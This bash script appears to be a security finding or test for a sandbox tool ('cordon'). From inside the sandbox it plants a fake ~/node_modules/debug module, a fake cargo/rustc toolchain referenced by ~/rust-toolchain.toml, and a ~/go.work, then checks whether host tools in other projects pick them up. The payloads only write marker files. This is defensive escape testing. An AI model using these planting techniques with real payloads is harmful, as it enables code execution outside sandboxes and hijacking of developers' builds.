#!/bin/bash
# Finding (class 7 / a, HOME as the workdir): HOME's dot-entries are protected, but tools search *upward*
# from the current directory for plain names too, so a file at HOME's top is read by every project under
# HOME: `~/node_modules/<pkg>` is what node's require() loads in any project under HOME that lacks <pkg>
# (an optional dependency, a project before `npm install`); `~/rust-toolchain.toml` (`path =`) replaces
# cargo and rustc for every crate under HOME without its own toolchain file; `~/go.work` makes every
# module under HOME build with the workspace's `replace`s. Usage: CORDON=... findings/home-upward-files.sh
# (root or any user; the rust half runs only where cargo is on PATH)
set -u
CORDON=${CORDON:-$(pwd)/build/cordon}
HOST_CARGO_HOME=${CARGO_HOME:-$HOME/.cargo}; HOST_RUSTUP_HOME=${RUSTUP_HOME:-$HOME/.rustup}
B=$(mktemp -d /var/tmp/atk.XXXXXX); chmod 755 "$B"; export HOME=$B/home; mkdir -p "$HOME/other/src"
M1=$B/marker-node M2=$B/marker-cargo
cd "$HOME"
"$CORDON" run -- sh -c '
  mkdir -p node_modules/debug tc/bin tc/lib
  printf "require(\"fs\").writeFileSync(%s, \"x\"); module.exports = () => () => {};\n" "\"$1\"" > node_modules/debug/index.js
  printf "#!/bin/sh\ntouch %s\necho cargo 1.99.0\n" "$2" > tc/bin/cargo; cp tc/bin/cargo tc/bin/rustc; chmod +x tc/bin/*
  printf "[toolchain]\npath = \"%s/tc\"\n" "$HOME" > rust-toolchain.toml
  echo "go 1.22" > go.work
  echo written inside' sh "$M1" "$M2" 2>&1
# the host, later, in another project under HOME
cd "$HOME/other"
command -v node >/dev/null && node -e 'try { require("debug") } catch (e) {}'
if command -v cargo >/dev/null; then
  printf '[package]\nname = "o"\nversion = "0.1.0"\nedition = "2021"\n' > Cargo.toml; echo 'fn main() {}' > src/main.rs
  CARGO_HOME=$HOST_CARGO_HOME RUSTUP_HOME=$HOST_RUSTUP_HOME cargo --version >/dev/null 2>&1
fi
rc=0
[ -e "$M1" ] && { echo "ESCAPE: node in another project under HOME loaded the sandbox's ~/node_modules/debug"; rc=1; } || echo "held: ~/node_modules"
[ -e "$M2" ] && { echo "ESCAPE: cargo in another project under HOME ran the sandbox's toolchain (~/rust-toolchain.toml)"; rc=1; } || echo "held or not shown (no cargo): ~/rust-toolchain.toml"
[ -e "$HOME/go.work" ] && { echo "ESCAPE (premise): ~/go.work written from inside"; rc=1; } || echo "held: ~/go.work"
rm -rf "$B"; exit $rc
